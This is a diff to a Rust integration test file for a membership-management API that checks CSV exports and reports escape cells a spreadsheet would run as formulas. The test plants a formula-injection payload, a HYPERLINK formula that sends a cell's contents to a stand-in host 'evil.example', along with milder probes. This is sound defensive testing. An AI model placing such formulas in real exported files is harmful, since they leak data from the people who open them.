@@ -1,6 +1,7 @@
 //! The member list as a CSV spreadsheet: same filters and order as the list, scope kept.
 
 use qldv_tests::{official_json, Client, TestApp};
+use serde_json::json;
 
 /// Official members born in 1980 and admitted in 2005, one per name, in `cell`.
 async fn officials(admin: &Client, cell: i64, names: &[&str]) {
@@ -114,4 +115,72 @@ async fn the_member_list_exports_as_xlsx_with_the_same_rows() {
     assert_eq!(names, csv_names);
     assert_eq!(names.len(), 3);
     assert_eq!(rows[1][2], "15/01/1980");
+}
+
+/// The fields of a CSV answer (after the byte-order mark), record by record.
+fn csv_records(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// Whether a spreadsheet program would run a cell as a formula (a plain number is a number).
+fn runs_as_formula(cell: &str) -> bool {
+    let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['+', 'e', 'E']);
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
+}
+
+#[actix_web::test]
+async fn cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_in_every_csv() {
+    let app = TestApp::new().await;
+    let admin = app.admin().await;
+    let a = admin.create_tree("A").await;
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
+    let mut m = official_json(a.cell, "Nguyễn Văn An", 1980, "2005-03-07", 1);
+    m["hometown"] = json!(hyperlink);
+    m["current_address"] = json!("+84 912 000 111, Hà Nội");
+    m["religion"] = json!("@SUM(1+1)");
+    admin.create_member(m).await;
+    let res = admin
+        .get(&format!(
+            "/api/v1/members/export?organization_id={}",
+            a.province
+        ))
+        .await;
+    res.assert_status(200);
+    let records = csv_records(&res.text);
+    let member = &records[1];
+    assert_eq!(member[10], format!("'{hyperlink}"));
+    assert_eq!(member[11], "'+84 912 000 111, Hà Nội");
+    assert_eq!(member[13], "'@SUM(1+1)");
+    for cell in records.iter().flatten() {
+        assert!(!runs_as_formula(cell), "{cell:?} in {}", res.text);
+    }
+    // Reports: an organisation's name is a cell too.
+    admin.create_org("=1+2", "cell", Some(a.commune)).await;
+    let res = admin
+        .send(
+            actix_web::http::Method::GET,
+            &format!(
+                "/api/v1/reports/movement?organization_id={}&from=2026-01-01&to=2026-12-31",
+                a.commune
+            ),
+            None,
+            &[("accept", "text/csv")],
+        )
+        .await;
+    res.assert_status(200);
+    let records = csv_records(&res.text);
+    assert!(
+        records.iter().flatten().any(|c| c == "'=1+2"),
+        "{}",
+        res.text
+    );
+    for cell in records.iter().flatten() {
+        assert!(!runs_as_formula(cell), "{cell:?} in {}", res.text);
+    }
 }
